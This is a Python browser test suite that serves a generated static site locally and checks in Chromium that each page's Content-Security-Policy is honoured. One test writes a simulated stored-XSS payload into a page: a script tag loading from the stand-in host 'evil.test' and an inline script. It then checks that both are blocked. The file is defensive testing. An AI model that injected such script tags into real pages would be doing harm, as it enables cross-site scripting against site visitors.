"""The built example under its own Content-Security-Policy in Chromium.

A small local server plays the host: it reads the output's `_headers` and `_redirects` (with this test suite's
own parsers, tests/test_hosts.py) and sends each path its headers, or serves pages that carry a <meta> policy.
Vendor scripts are answered with an empty script (funnelgen.browser.STUB). Every page is visited: no policy
violation may be reported. Then a page is altered on disk the way stored XSS would alter it (a script from a
foreign origin and an inline script): both must be blocked.
"""

from __future__ import annotations

import functools
import http.server
import mimetypes
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from test_hosts import build_example, matching, parse_headers, parse_redirects

from funnelgen.browser import STUB, request_policy

pytestmark = pytest.mark.browser

LISTEN = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e =>
  window.__csp.push({directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample}));
"""
INJECTED = '<script src="http://evil.test/x.js"></script><script>window.__xss = "inline ran";</script>'


class HostHandler(http.server.BaseHTTPRequestHandler):
    """GET like Netlify / Cloudflare Pages: `_redirects` first, then the file, with the `_headers` that match."""

    def __init__(self, *args, root: Path, **kwargs):
        self.root = root
        super().__init__(*args, **kwargs)

    def log_message(self, *args):
        pass

    def do_GET(self):
        path = urlsplit(self.path).path
        read = lambda name: (self.root / name).read_text(encoding="utf-8") if (self.root / name).is_file() else ""  # noqa: E731
        rules, redirects = parse_headers(read("_headers")) if read("_headers") else [], parse_redirects(read("_redirects"))
        served = path
        for source, target, status in redirects:
            if source == path:
                if status != 200:
                    self.send_response(status)
                    self.send_header("Location", target)
                    self.end_headers()
                    return
                served = target
                break
        file = self.root / served.lstrip("/")
        if served.endswith("/"):
            file = file / "index.html"
        status = 200
        if not file.is_file() or ".." in served:
            file, status = self.root / "404.html", 404
        body = file.read_bytes()
        self.send_response(status)
        self.send_header("Content-Type", mimetypes.guess_type(file.name)[0] or "text/html; charset=utf-8")
        for name, value in matching(rules, path):
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module", params=["netlify", "static"])
def hosted(request, tmp_path_factory):
    """The example built for a host with headers (netlify) and for one without (static: <meta> policies)."""
    out, _result = build_example(tmp_path_factory.mktemp(request.param), request.param)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(HostHandler, root=out))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield request.param, out, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def visit(browser, base: str, path: str) -> dict:
    context = browser.new_context(viewport={"width": 390, "height": 844})
    outside, console = [], []

    def route(r):
        url = r.request.url
        if url.startswith(base):
            return r.continue_()
        outside.append(url)
        if request_policy(url) == "vendor":
            return r.fulfill(**STUB)
        if "evil.test" in url:  # were the request let through, the script would say so
            return r.fulfill(status=200, content_type="application/javascript", body="window.__evil = 'ran';")
        return r.abort()

    context.route("**/*", route)
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.on("console", lambda m: console.append(m.text) if m.type in ("error", "warning") else None)
    response = page.goto(base + path, wait_until="load")
    page.wait_for_timeout(150)  # vendor snippets load their (stubbed) scripts after load
    seen = page.evaluate("({csp: window.__csp, xss: window.__xss || null, evil: window.__evil || null,"
                         " policy: document.querySelector('meta[http-equiv=Content-Security-Policy]') !== null})")
    seen.update(status=response.status, header=response.headers.get("content-security-policy"),
                console=console, outside=outside)
    context.close()
    return seen


def test_every_page_runs_under_its_policy_without_a_violation(browser, hosted):
    host, out, base = hosted
    pages = ["/"] + sorted("/" + p.parent.relative_to(out).as_posix() + "/" for p in out.glob("*/index.html")
                           if (p.parent.name not in ("seminar", "go", "book")))
    pages.append("/no-such-page/")
    assert len(pages) >= 12, pages
    for path in pages:
        seen = visit(browser, base, path)
        assert seen["status"] == (404 if path == "/no-such-page/" else 200), path
        assert seen["csp"] == [], (path, seen["csp"])
        assert [m for m in seen["console"] if "Content Security Policy" in m or "Refused" in m] == [], path
        delivered = seen["header"] if host == "netlify" and path != "/no-such-page/" else None
        assert (delivered is not None) or seen["policy"], f"{path}: no policy at all"
        if host == "netlify" and path != "/no-such-page/":
            assert "frame-ancestors 'none'" in delivered and not seen["policy"]
    vendor_loaded = visit(browser, base, "/optin/")["outside"]
    assert any("googletagmanager.com" in url for url in vendor_loaded)  # the stubs were really fetched


def test_scripts_injected_into_a_stored_page_are_blocked(browser, hosted):
    _host, out, base = hosted
    page = out / "starter" / "index.html"
    clean = page.read_text(encoding="utf-8")
    try:
        page.write_text(clean.replace("</body>", INJECTED + "</body>"), encoding="utf-8")
        seen = visit(browser, base, "/starter/")
    finally:
        page.write_text(clean, encoding="utf-8")
    assert seen["xss"] is None and seen["evil"] is None
    assert not any("evil.test" in url for url in seen["outside"])  # refused before any request was made
    blocked = {(v["directive"], v["blocked"]) for v in seen["csp"]}
    assert ("script-src-elem", "http://evil.test/x.js") in blocked, seen["csp"]
    assert ("script-src-elem", "inline") in blocked, seen["csp"]


def test_eu_consent_runs_the_held_tags_under_the_policy(browser, tmp_path):
    """site.audience: eu keeps the vendor tags in a <template> until the visitor accepts; funnel.js then runs
    copies of them, which the page's hashes must still allow."""
    out, _result = build_example(tmp_path, "static", audience=["jp", "eu"])
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(HostHandler, root=out))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        context = browser.new_context()
        context.route("**/*", lambda r: r.continue_() if r.request.url.startswith(base) else
                      (r.fulfill(**STUB) if request_policy(r.request.url) == "vendor" else r.abort()))
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.goto(base + "/optin/")
        assert page.evaluate("typeof window.fbq") == "undefined"  # held until consent
        page.click("[data-fg-consent-accept]")
        page.wait_for_function("typeof window.fbq === 'function'")
        page.wait_for_timeout(150)
        assert page.evaluate("window.__csp") == []
        context.close()
    finally:
        server.shutdown()
